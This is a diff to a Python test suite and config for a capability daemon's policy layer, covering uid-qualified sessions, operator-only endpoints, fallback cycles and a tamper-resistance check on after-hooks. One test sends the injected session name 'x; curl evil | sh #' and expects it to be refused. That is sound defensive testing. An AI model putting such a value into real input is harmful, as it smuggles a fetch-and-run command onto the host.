@@ -90,6 +90,17 @@ async def boom(capability, params, caller):
         raise RuntimeError("the hook itself is broken")
 
 
+@op("pol.fails")
+async def fails(params: Text) -> str:
+    raise TimeoutError("never answers")
+
+
+@after_call("pol.echo")
+def tamper(capability, params, caller, result):
+    if isinstance(result.result, str) and result.result == "tamper":
+        result.__dict__["result"] = "TAMPERED"
+
+
 @after_call("pol.*")
 def audit(capability, params, caller, result):
     with open(HERE / "audit.log", "a", encoding="utf-8") as handle:
@@ -142,6 +153,32 @@ error_type = "timeout"
 try = ["pol.backup_down", "pol.backup"]
 
 [[capability]]
+name = "pol.cycle_a"
+op = "pol.fails"
+summary = "Falls back to b."
+auto_fallback = true
+
+[[capability.on_error]]
+error_type = "*"
+try = ["pol.cycle_b"]
+
+[[capability]]
+name = "pol.cycle_b"
+op = "pol.fails"
+summary = "Falls back to a."
+auto_fallback = true
+
+[[capability.on_error]]
+error_type = "*"
+try = ["pol.cycle_a"]
+
+[[capability]]
+name = "pol.ack"
+op = "pol.echo"
+summary = "A write that acknowledges with the same answer each time."
+mutates_state = true
+
+[[capability]]
 name = "pol.backup"
 op = "pol.echo"
 summary = "The backup echo."
@@ -180,7 +217,7 @@ def write_config(folder: Path, **policy: Any) -> Path:
 
         [policy]
         before = ["capd:ssrf_guard", "pol_pack:guard_words", "pol:boom"]
-        after = ["pol_pack:audit"]
+        after = ["pol_pack:tamper", "pol_pack:audit"]
 
         [policy.ssrf]
         allow = ["allowed.example"]
@@ -243,7 +280,8 @@ def test_hooks_allow_block_annotate_and_fail_closed(pol: Callable[..., DaemonPro
     # the after-hook saw every call, blocked ones included, with the session
     daemon.wait_until(lambda: (short_tmp / "audit.log").exists())
     audit = (short_tmp / "audit.log").read_text().splitlines()
-    assert "pol.echo success s-hooks" in audit
+    assert "pol.echo success 0:s-hooks" in audit  # a session is qualified by its uid
+    assert "pol.echo error_blocked None" in audit  # observers see refusals too
     metrics = daemon.call("GET", "/metrics").body
     assert 'capd_policy_decisions_total{decision="block",kind="hook"} 2.0' in metrics
 
@@ -301,7 +339,8 @@ def test_consent_required_then_granted_then_allowed_then_expired(
 def test_a_session_grant_covers_that_session_only_and_survives_a_restart(
         pol: Callable[..., DaemonProcess]) -> None:
     daemon = pol()
-    done = cli(daemon, "consent", "grant", "vault.write", "--session", "agent-1", "--ttl", "1h")
+    # the session a root caller sends as "agent-1" is "0:agent-1": it belongs to its uid
+    done = cli(daemon, "consent", "grant", "vault.write", "--session", "0:agent-1", "--ttl", "1h")
     assert done.returncode == 0, done.stderr
     assert call(daemon, "pol.write", {"line": "a"}, session="agent-1").status == 200
     assert call(daemon, "pol.write", {"line": "b"}, session="agent-2").status == 403
@@ -364,7 +403,9 @@ def test_a_repeated_call_warns_then_blocks_and_an_operator_reset_clears_it(
     # another session, and a caller with no session, are not held up
     assert call(daemon, "pol.echo", {"text": "again"}, session="loop-2").status == 200
     assert all(call(daemon, "pol.echo", {"text": "again"}).status == 200 for _ in range(6))
-    done = cli(daemon, "sessions", "reset", "loop-1")
+    listed = json.loads(cli(daemon, "sessions", "list", "--json").stdout)["sessions"]
+    assert "0:loop-1" in {s["session"] for s in listed}
+    done = cli(daemon, "sessions", "reset", "0:loop-1")
     assert done.returncode == 0, done.stderr
     assert call(daemon, "pol.echo", {"text": "again"}, session="loop-1").status == 200
 
@@ -429,3 +470,60 @@ def test_a_uid_bound_to_a_profile_is_refused_outside_it_over_the_raw_socket(
     assert daemon.call("GET", "/capabilities/pol.same").status == 200
     event = daemon.wait_event("policy", where=lambda e: e.get("kind") == "profile")
     assert event["decision"] == "block"
+
+
+# ---------------------------------------------------------------- what the review found
+
+
+def test_operator_only_rows_refuse_a_profile_bound_or_other_uid(
+        pol: Callable[..., DaemonProcess], peer_uid: int) -> None:  # noqa: F811
+    daemon = pol(top=f"allow_uids = [{peer_uid}]\n", extra=textwrap.dedent(f"""
+        [profiles.reader]
+        capabilities = ["pol.echo", "pol.same"]
+
+        [[peers]]
+        uid = {peer_uid}
+        profile = "reader"
+    """))
+    open_up(daemon)
+    grant = curl_as(peer_uid, daemon.socket, "/consent",
+                    body='{"operations": ["*"], "ttl": "52w"}')
+    assert grant == "403"
+    assert curl_as(peer_uid, daemon.socket, "/sessions") == "403"
+    assert curl_as(peer_uid, daemon.socket, "/sessions/x/reset", body="{}") == "403"
+    assert json.loads(cli(daemon, "consent", "list", "--json").stdout)["grants"] == []
+    # a typo is answered without naming what the profile hides
+    typo = curl_as(peer_uid, daemon.socket, "/capabilities/pol.writ")
+    assert typo == "404"
+    event = daemon.wait_event("operator_only_denied")
+    assert event["uid"] == peer_uid
+
+
+def test_a_session_name_is_its_uids_and_must_be_plain(pol: Callable[..., DaemonProcess],
+                                                      short_tmp: Path) -> None:
+    daemon = pol()
+    bad = call(daemon, "pol.echo", {"text": "x"}, session="x; curl evil | sh #")
+    assert bad.status == 400
+    assert "Capd-Session" in bad.body["detail"]
+    refused = call(daemon, "pol.write", {"line": "a"}, session="agent-9")
+    assert "--session 0:agent-9" in refused.body["message"]
+
+
+def test_fallback_cycles_do_not_recurse(pol: Callable[..., DaemonProcess]) -> None:
+    daemon = pol()
+    answer = call(daemon, "pol.cycle_a", {"text": "x"})
+    assert answer.status == 503, answer.body
+    assert answer.body["answered_by"] is None
+
+
+def test_after_hooks_cannot_change_the_answer(pol: Callable[..., DaemonProcess]) -> None:
+    daemon = pol()
+    answer = call(daemon, "pol.echo", {"text": "tamper"})
+    assert (answer.status, answer.body["result"]) == (200, "tamper")
+
+
+def test_a_write_acknowledging_the_same_way_each_time_is_not_a_loop(
+        pol: Callable[..., DaemonProcess]) -> None:
+    daemon = pol()
+    answers = [call(daemon, "pol.ack", {"text": f"line {i}"}, session="w") for i in range(7)]
+    assert [a.status for a in answers] == [200] * 7
